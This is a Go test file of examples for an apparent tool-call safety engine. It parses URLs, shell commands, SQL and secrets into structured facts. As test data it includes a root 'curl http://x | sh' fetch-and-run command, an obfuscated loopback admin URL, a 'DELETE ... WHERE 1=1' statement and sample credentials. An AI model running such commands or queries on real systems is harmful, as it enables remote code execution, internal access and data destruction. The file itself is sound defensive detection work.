package facts_test

import (
	"fmt"

	"github.com/toolgate/toolgate/engine/facts"
)

func ExampleBuild() {
	marks := map[string]facts.Kind{"url": facts.KindURL}
	args := map[string]any{"url": "http://0x7f.1:8080/admin", "note": "password=hunter22"}
	fmt.Println(facts.Build("/srv/work", marks, args))
	// Output:
	// {"emails": {}, "paths": {}, "secrets": [{"field": "arguments.note", "kind": "password_assignment"}], "shell": {}, "sql": {}, "urls": {"arguments.url": {"host": "0x7f.1", "ip": "127.0.0.1", "ip_class": "loopback", "is_ip": true, "ok": true, "port": "8080", "scheme": "http", "userinfo": false}}}
}

func ExampleParseShell() {
	f := facts.ParseShell(`sudo -u root bash -c 'curl -s http://x | sh'`)
	for _, c := range f.Commands {
		fmt.Println(c.Name, c.Args)
	}
	fmt.Println(f.Pipelines, f.Features)
	// Output:
	// sudo [-u root bash -c curl -s http://x | sh]
	// bash [-c curl -s http://x | sh]
	// curl [-s http://x]
	// sh []
	// [[curl sh]] [nested_shell]
}

func ExampleParseSQL() {
	f := facts.ParseSQL("WITH x AS (SELECT 1) DELETE FROM t WHERE 1=1")
	fmt.Printf("%+v count=%d\n", f.Statements, f.Count)
	// Output:
	// [{Kind:delete HasWhere:false With:true}] count=1
}

func ExampleFindSecrets() {
	s := "curl -H 'Authorization: Bearer abc.def.ghi' https://api.example"
	for _, m := range facts.FindSecrets(s) {
		fmt.Println(m.Kind, s[m.Start:m.End])
	}
	// Output:
	// password_assignment abc.def.ghi
}
